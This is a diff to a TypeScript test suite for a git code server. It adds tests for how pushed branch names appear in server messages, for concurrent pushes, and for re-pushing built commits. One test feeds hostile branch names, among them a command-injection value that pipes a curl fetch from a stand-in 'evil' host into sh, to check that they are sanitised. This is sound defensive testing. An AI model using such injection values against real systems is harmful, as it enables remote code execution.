@@ -1,7 +1,7 @@
 /** The code server, with the real git as its client. */
 // Shares nothing: repositories in a temporary folder, a server on a free port.
 import assert from 'node:assert/strict'
-import { randomBytes } from 'node:crypto'
+import { createHash, randomBytes } from 'node:crypto'
 import { once } from 'node:events'
 import { mkdir, readdir, readFile, truncate, utimes, writeFile } from 'node:fs/promises'
 import { request } from 'node:http'
@@ -72,6 +72,61 @@ test('a push of main names its run and how to follow it, another branch why it i
   assert.match(later.stderr, /remote: opads: the push is kept, .*\s+remote: See its run: opads run list/)
   const gone = await git(folder, 'push', 'origin', ':feature')
   assert.deepEqual([gone.code, gone.stderr.includes('opads:')], [0, false])
+})
+test('a name is printed without control characters, and in a command only as one word', async () => {
+  const { push, folder, head } = await checkout('ours/blog', { 'index.html': 'named' })
+  assert.equal((await push()).code, 0)
+  const said = async (name: string) => {
+    const { code: exit, stderr } = await git(folder, 'push', 'origin', `HEAD:refs/heads/${name}`)
+    assert.equal(exit, 0, stderr)
+    return stderr.split('\n').filter((text) => text.startsWith('remote:')).join('\n') // biome-ignore format: one line
+  }
+  assert.match(await said('fix/a_1.2-b'), /app build blog --ref fix\/a_1\.2-b\s*$/)
+  const others = [[`x;curl\${IFS}evil|sh`], ['a`b`'], ['修复'], ['c\u009b31md\u0085', 'c?31md?']] as const
+  for (const [name, shown = name] of others) {
+    const text = await said(name)
+    assert.ok(text.includes(`so ${shown} is not.`), text)
+    assert.doesNotMatch(text, /app build|[\x80-\x9f]/)
+    assert.equal(await repositories.resolve('ours/blog', name), name.startsWith('c') ? undefined : head)
+  }
+  const long = Array.from({ length: 3 }, () => 'x'.repeat(99)).join('/')
+  const text = await said(long)
+  assert.ok(text.includes(`so ${long.slice(0, 200)} is not.`), text)
+  assert.doesNotMatch(text, /app build/)
+})
+test('a push of another branch is not told of the main that somebody else pushes meanwhile', async () => {
+  const { push, commit, head } = await checkout('ours/blog', { 'index.html': 'mine' })
+  assert.equal((await push()).code, 0)
+  await commit({ 'index.html': 'theirs' }, 'Meanwhile')
+  const empty = Buffer.from('PACK\0\0\0\u0002\0\0\0\0', 'latin1')
+  const call = request(origin, {
+    path: '/ours/blog.git/git-receive-pack',
+    method: 'POST',
+    headers: { authorization, 'content-type': 'application/x-git-receive-pack-request' },
+  })
+  const order = `${'0'.repeat(40)} ${head} refs/heads/beside\0report-status side-band-64k`
+  call.write(`${line(order)}0000`)
+  await waitFor(
+    'git to take the push',
+    async () => (await children()).some((words) => words.includes('receive-pack')),
+    { everyMs: 20 },
+  )
+  assert.match((await push()).stderr, /opads: run/)
+  call.end(Buffer.concat([empty, createHash('sha1').update(empty).digest()]))
+  const [answer] = (await once(call, 'response')) as [import('node:http').IncomingMessage]
+  const said = (await answer.toArray()).join('')
+  assert.match(said, /ok refs\/heads\/beside/)
+  assert.doesNotMatch(said, /opads: run/)
+})
+test('a push back to what is built already names no run', async () => {
+  const { push, folder, commit, head } = await checkout('ours/blog', { 'index.html': 'a' })
+  assert.match((await push()).stderr, /opads: run/)
+  await commit({ 'index.html': 'b' }, 'Not known to Pluto')
+  away.is = true
+  assert.match((await push()).stderr, /opads: the push is kept/)
+  away.is = false
+  const back = await git(folder, 'push', '--force', 'origin', `${head}:main`)
+  assert.deepEqual([back.code, back.stderr.includes('opads:')], [0, false], back.stderr)
 })
 test('who is not known is asked to sign in; what another owns is not there', async () => {
   const folder = await workFolder()
